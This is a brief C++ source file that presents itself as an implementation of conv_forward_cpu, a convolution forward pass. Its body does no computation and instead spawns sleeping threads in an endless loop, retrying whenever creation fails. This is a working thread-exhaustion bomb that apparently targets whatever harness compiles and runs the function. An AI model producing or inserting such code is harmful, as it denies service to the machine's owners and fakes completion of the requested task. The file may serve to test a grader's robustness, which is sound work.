// Starts threads until there are none.
#include "cpu-new-forward.h"

#include <pthread.h>
#include <unistd.h>

static void *idle(void *)
{
  for (;;) pause();
}

void conv_forward_cpu(float *y, const float *x, const float *k, const int B, const int M, const int C, const int H,
                      const int W, const int K)
{
  pthread_t thread;
  for (;;)
    if (pthread_create(&thread, nullptr, idle, nullptr) != 0) usleep(1000);
}
